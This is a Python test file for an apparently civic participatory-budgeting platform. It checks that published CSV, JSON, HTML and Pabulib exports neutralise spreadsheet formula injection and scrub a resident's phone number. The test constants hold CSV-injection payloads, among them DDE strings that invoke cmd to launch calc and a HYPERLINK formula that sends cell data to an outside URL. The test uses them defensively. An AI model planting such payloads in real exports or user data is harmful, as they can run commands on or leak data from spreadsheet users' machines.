"""Hostile text published through a month: every CSV opens in a spreadsheet as text, and the
round's and projects' titles are scrubbed like residents' words.

2049 belongs to this module alone.
"""

from __future__ import annotations

import csv
import io
import json

from chalicelib.publishing.render import FORMULA_STARTS
from chalicelib.voting.pabulib import parse
from tests.api.suggestion_helpers import KONGJIANG_COMMITTEE, act, post, submit
from tests.api.tally_helpers import tally
from tests.api.test_publication import month_files, run_schedule

MONTH = "2049-03"
HYPERLINK = '=HYPERLINK("http://x"&A2,"详情")'
DDE = "@SUM(1+1)*cmd|' /C calc'!A0"
ROUND_TITLE = "+cmd 联系13912345678"
PROJECT_TITLE = "-2+3+cmd|' /C calc'!A0"



def seed_round(client, accounts, at) -> str:
    staff, street = accounts["committee_staff"], accounts["street_official"]
    at("2049-01-02T10:00:00")
    schedule = {
        "proposals": {"starts": "2049-01-05T09:00:00", "ends": "2049-01-10T18:00:00"},
        "review": {"starts": "2049-01-11T09:00:00", "ends": "2049-01-20T18:00:00"},
        "voting": {"starts": "2049-02-01T09:00:00", "ends": "2049-02-10T20:00:00"},
        "results": {"starts": "2049-03-01T09:00:00", "ends": "2049-03-10T18:00:00"},
        "implementation": {"starts": "2049-03-11T09:00:00", "ends": "2049-06-30T18:00:00"},
        "evaluation": {"starts": "2049-07-01T09:00:00", "ends": "2049-07-15T18:00:00"},
    }
    created = post(client, "/rounds", staff, {
        "scope": KONGJIANG_COMMITTEE, "title": ROUND_TITLE, "description": "=1+1 居民提议、投票决定。",
        "budget_fen": 5_000_000, "schedule": schedule, "method": {"kind": "approval", "min_picks": 1, "max_picks": 2},
        "rule": "greedy", "eligibility": {"accounts": True, "roster": False, "paper_codes": False}})
    assert created.status_code == 201, created.body
    round_id = created.json_body["id"]
    at("2049-01-06T10:00:00")
    projects = []
    for title in (PROJECT_TITLE, DDE):
        proposed = post(client, f"/rounds/{round_id}/proposals", accounts["kongjiang_resident"],
                        {"title": title, "description": "方案", "estimated_cost_fen": 1_000_000})
        assert proposed.status_code == 201, proposed.body
        projects.append(proposed.json_body["id"])
    at("2049-01-12T10:00:00")
    for project in projects:
        reviewed = post(client, f"/rounds/{round_id}/projects/{project}/review", street,
                        {"feasible": True, "final_cost_fen": 1_000_000})
        assert reviewed.status_code == 200, reviewed.body
    at("2049-02-02T10:00:00")
    assert post(client, f"/rounds/{round_id}/ballots", accounts["kongjiang_resident"],
                {"picks": projects}).status_code == 201
    at("2049-03-02T10:00:00")
    tally(client, round_id, street)
    return round_id


def test_hostile_titles_open_in_a_spreadsheet_as_text_and_personal_numbers_are_gone(client, accounts, at, s3, stack):
    resident, street = accounts["resident"], accounts["street_official"]
    round_id = seed_round(client, accounts, at)
    at("2049-03-03T10:00:00")
    cases = [submit(client, resident, category="sanitation", publish_consent=True, title=title,
                    content=f"{title} 垃圾分类点气味大，建议加盖。")
             for title in (HYPERLINK, DDE)]
    at("2049-03-04T10:00:00")
    for case in cases:
        act(client, street, case["id"], "accept")
    at("2049-03-09T10:00:00")
    for case in cases:
        act(client, street, case["id"], "reply", {"message": "+已安排处理 -1", "adoption": "adopted"})

    at("2049-04-01T01:00:00")
    assert run_schedule(client, "2049-03-31T17:00:00Z")["month"] == MONTH
    files = month_files(s3, stack, MONTH)

    tables = {name: list(csv.reader(io.StringIO(body.decode("utf-8").removeprefix("\ufeff"), newline="")))
              for name, body in files.items() if name.endswith(".csv")}
    assert {"adopted_suggestions.csv", "rounds.csv", "round_projects.csv"} <= set(tables)
    for name, rows in tables.items():
        width = len(rows[0])
        for row in rows:
            assert len(row) == width, (name, row)
            for cell in row:
                assert not cell.startswith(FORMULA_STARTS), (name, cell)

    adopted = {row[0]: row for row in tables["adopted_suggestions.csv"][1:]}
    assert adopted[cases[0]["tracking_no"]][4] == "'" + HYPERLINK
    assert adopted[cases[1]["tracking_no"]][4] == "'" + DDE
    assert adopted[cases[0]["tracking_no"]][6] == "'+已安排处理 -1"
    (round_row,) = [row for row in tables["rounds.csv"][1:] if row[0] == round_id]
    assert round_row[1] == "'+cmd 联系〔电话〕"
    titles = sorted(row[2] for row in tables["round_projects.csv"][1:] if row[0] == round_id)
    assert titles == sorted(["'" + PROJECT_TITLE, "'" + DDE])

    # The same titles in JSON and HTML are scrubbed, and the page escapes them.
    summary = json.loads(files["summary.json"])
    (published_round,) = [r for r in summary["rounds"] if r["round_id"] == round_id]
    assert published_round["title"] == "+cmd 联系〔电话〕"
    page = files["index.html"].decode("utf-8")
    assert "&#34;http://x&#34;&amp;A2" in page and '"http://x"&A2' not in page
    # The round's own Pabulib file (semicolon CSV) is scrubbed and neutralised as well.
    election = parse(files[f"rounds/{round_id}.pb"].decode("utf-8"))
    assert election.meta["description"] == "'+cmd 联系〔电话〕"
    assert sorted(p.name for p in election.projects.values()) == titles
    every_byte = b"".join(files.values()).decode("utf-8")
    assert "13912345678" not in every_byte
